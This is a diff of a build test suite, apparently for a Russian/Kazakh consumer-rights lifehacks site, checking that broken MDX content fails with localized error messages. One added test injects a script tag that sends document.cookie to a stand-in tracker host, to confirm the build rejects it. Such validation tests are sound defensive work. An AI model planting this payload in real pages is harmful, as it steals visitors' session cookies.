@@ -17,18 +17,31 @@ const GUIDE = 'lifehacks/ru/only-in-russian.mdx';
  * Sequential on purpose: every Astro build rewrites the project's .astro/ folder.
  */
 describe('a build of broken content fails with a message naming the file and the field', () => {
+  it('unsafe MDX (a script tag): the same content check as `npm run check`, in Russian and Kazakh', async () => {
+    const { code, output } = await buildChangedFixture((dir) =>
+      edit(dir, GUIDE, (s) => `${s}\n<script>fetch('https://tracker.example/?c=' + document.cookie)</script>\n`),
+    );
+    expect(code).not.toBe(0);
+    expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
+    expect(output).toContain('тег <script> запрещён');
+    expect(output).toContain('<script> тегіне мақалада тыйым салынған');
+  });
+
   it('missing title', async () => {
     const { code, output } = await buildChangedFixture((dir) => edit(dir, GUIDE, (s) => s.replace(/^title:.*\n/m, '')));
     expect(code).not.toBe(0);
     expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
-    expect(output).toContain('title: expected text in quotes');
+    // The content check runs first in every build, with the messages of `npm run check`.
+    expect(output).toContain('поле «title» обязательно');
+    expect(output).toContain('«title» өрісі міндетті');
   });
 
   it('unknown topic', async () => {
     const { code, output } = await buildChangedFixture((dir) => edit(dir, GUIDE, (s) => s.replace('topics: [return-exchange]', 'topics: [refunds]')));
     expect(code).not.toBe(0);
     expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
-    expect(output).toMatch(/topics\.0: unknown topic "refunds"; use one of: return-exchange, .*prices/);
+    expect(output).toMatch(/lifehacks\/ru\/only-in-russian\.mdx:5 \(topics\.0\)/);
+    expect(output).toMatch(/в поле «topics\.0» неизвестное значение "refunds"\. Допустимые: return-exchange, .*prices/);
   });
 
   it('a language folder other than ru or kk', async () => {
@@ -37,7 +50,8 @@ describe('a build of broken content fails with a message naming the file and the
       renameSync(join(dir, GUIDE), join(dir, 'lifehacks/en/only-in-russian.mdx'));
     });
     expect(code).not.toBe(0);
-    expect(output).toContain('content/lifehacks/en/only-in-russian.mdx: the language folder "en" is not supported; move the file into one of: kk, ru');
+    expect(output).toContain('lifehacks/en/only-in-russian.mdx');
+    expect(output).toContain('папка «en» — не язык сайта: перенесите файл в папку ru или kk.');
   });
 
   it('a lifehack without a law reference', async () => {
@@ -46,20 +60,21 @@ describe('a build of broken content fails with a message naming the file and the
     );
     expect(code).not.toBe(0);
     expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
-    expect(output).toContain('lawReferences: required for this collection; cite at least one provision');
+    expect(output).toContain('поле «lawReferences» обязательно');
   });
 
   it('a malformed date', async () => {
     const { code, output } = await buildChangedFixture((dir) => edit(dir, GUIDE, (s) => s.replace('checked: 2026-11-25', 'checked: 25.11.2026')));
     expect(code).not.toBe(0);
     expect(output).toContain('lifehacks/ru/only-in-russian.mdx');
-    expect(output).toContain('checked: "25.11.2026" is not a date; write it as YYYY-MM-DD, e.g. 2026-01-15');
+    expect(output).toContain('в поле «checked» не дата: "25.11.2026". Пишите ГГГГ-ММ-ДД');
   });
 
   it('a related entry that does not exist', async () => {
     const { code, output } = await buildChangedFixture((dir) => edit(dir, GUIDE, (s) => s.replace('videos/fixture-video', 'videos/no-such-video')));
     expect(code).not.toBe(0);
-    expect(output).toContain('content/lifehacks/ru/only-in-russian.mdx: related: "videos/no-such-video" does not exist');
+    expect(output).toContain('lifehacks/ru/only-in-russian.mdx:9 (related)');
+    expect(output).toContain('в «related» указан материал, которого нет: videos/no-such-video.');
   });
 
   it('and the unbroken fixture builds, printing the translation report', async () => {
